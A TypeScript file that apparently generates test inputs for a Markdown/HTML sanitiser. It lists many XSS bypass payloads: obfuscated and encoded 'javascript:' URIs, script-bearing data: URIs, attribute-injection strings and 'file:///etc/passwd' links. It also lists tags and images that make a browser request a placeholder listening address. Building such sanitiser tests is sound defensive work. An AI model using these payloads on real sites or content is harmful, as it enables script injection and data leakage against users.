/** Characters that a browser drops from the scheme of an address, or takes for white space before it. */
const DROPPED = ["", "\t", "\n", "\r", "\u0000", "\u0001", "\u00a0", "\u00ad", "\u200b", "\ufeff", " "];

/** Addresses that run something when one goes there. */
function scriptAddresses(): string[] {
  const spellings = DROPPED.flatMap((dropped) => [`${dropped}javascript:CALL`, `java${dropped}script:CALL`]);
  return [
    ...new Set(spellings),
    "JaVaScRiPt:CALL",
    "javascript\t:CALL",
    "javascript\u0000:CALL",
    "javascript://x%0aCALL",
    "javascript:%68asRun(1)",
    "javascript&colon;CALL",
    "javascript&#58;CALL",
    "javascript&#0000058CALL",
    "&#106;avascript:CALL",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:CALL",
    "java&Tab;script:CALL",
    "java&NewLine;script:CALL",
    "java&#x200b;script:CALL",
    "%6aavascript:CALL",
    "javascript%3ACALL",
    "\\javascript:CALL",
    "java\\script:CALL",
    "j\\avascript&#92;:CALL",
    "\\u006aavascript:CALL",
    "vbscript:CALL",
    "livescript:CALL",
    "data:text/html,<script>CALL</script>",
    "data:text/html;base64,PHNjcmlwdD5oYXNSdW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGFzUnVuKDEpIi8+",
    "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>CALL</script></x>",
    'data:image/png;base64,"onerror="CALL',
    "data:,x",
    "blob:null/x",
    "filesystem:file:///x",
    "file:///etc/passwd",
    "view-source:file:///etc/passwd",
    "about:blank",
    "ws://HOST/",
    "//HOST/",
    "\\\\HOST\\x",
    "https:/\\HOST/",
    'https://a.b/?"onmouseover="CALL" x="',
    "https://a.b/'onmouseover='CALL'",
    "https://a.b/<script>CALL</script>",
    "https://user:password@HOST/",
    "https://a.b/\u202egnp.exe",
    'mailto:a@b.example?subject="><script>CALL</script>',
    '#"><script>CALL</script>',
    '#run-0" autofocus onfocus="CALL',
    "?x=<script>CALL</script>",
  ];
}

/** Ways in which Markdown and HTML name an address. */
const LINKS = [
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}> "title")`,
  (address: string) => `<${address}>`,
  (address: string) => `![x](${address})`,
  (address: string) => `[x]\n\n[x]: ${address}\n`,
  (address: string) => `<a href="${address}">x</a>`,
];

/** Every address that runs something, as links of all kinds; CALL is what it runs. */
export function hostileLinks(): string[] {
  return scriptAddresses().map((address, at) => LINKS.map((link) => link(address)).join(at % 2 === 0 ? " " : "\n\n"));
}

/** Everything that asks a server for something; ADDRESS is one that listens, HOST its name and port. */
export const REQUESTS = [
  "<img src=ADDRESS>",
  "<img srcset=ADDRESS>",
  "<picture><source srcset=ADDRESS><img></picture>",
  "<link rel=stylesheet href=ADDRESS>",
  "<link rel=prefetch href=ADDRESS><link rel=preconnect href=ADDRESS><link rel=dns-prefetch href=ADDRESS>",
  "<link rel=icon href=ADDRESS>",
  "<link rel=manifest href=ADDRESS>",
  "<style>@import 'ADDRESS';</style>",
  "<style>@font-face{font-family:x;src:url(ADDRESS)} *{font-family:x;background:url(ADDRESS)}</style>",
  "<div style=\"background:url('ADDRESS')\">x</div>",
  "<table background=ADDRESS>",
  "<body background=ADDRESS>",
  "<video src=ADDRESS poster=ADDRESS autoplay></video>",
  "<audio src=ADDRESS autoplay></audio>",
  "<track src=ADDRESS>",
  "<input type=image src=ADDRESS>",
  "<iframe src=ADDRESS></iframe>",
  '<iframe srcdoc="<script>CALL</script><img src=ADDRESS>"></iframe>',
  "<frameset><frame src=ADDRESS></frameset>",
  "<object data=ADDRESS></object>",
  "<embed src=ADDRESS>",
  "<applet code=ADDRESS>",
  "<script src=ADDRESS></script>",
  "<svg><image href=ADDRESS /><use href=ADDRESS#x /><feImage href=ADDRESS /></svg>",
  "<base href=ADDRESS>",
  '<base target="_top"><a href="ADDRESS" ping="ADDRESS" download>x</a>',
  '<meta http-equiv=refresh content="0;url=ADDRESS">',
  '<meta http-equiv=Content-Security-Policy content="report-uri ADDRESS">',
  "<form action=ADDRESS id=f><input name=a><button>x</button></form><button form=f formaction=ADDRESS>x</button>",
  "<portal src=ADDRESS></portal><fencedframe src=ADDRESS></fencedframe>",
  "![picture](ADDRESS)",
  "![picture][p]\n\n[p]: ADDRESS 'title'",
  "[![picture](ADDRESS)](ADDRESS)",
  "![picture](<ADDRESS>)",
  "![picture](//HOST/x.png)",
  "![picture](ADDRESS =100x100)",
  "| ![picture](ADDRESS) |\n| :-: |\n| ![picture](ADDRESS) |",
  '<p>![picture](ADDRESS)</p>\n<img src="ADDRESS">',
  "\\<img src=ADDRESS>",
];
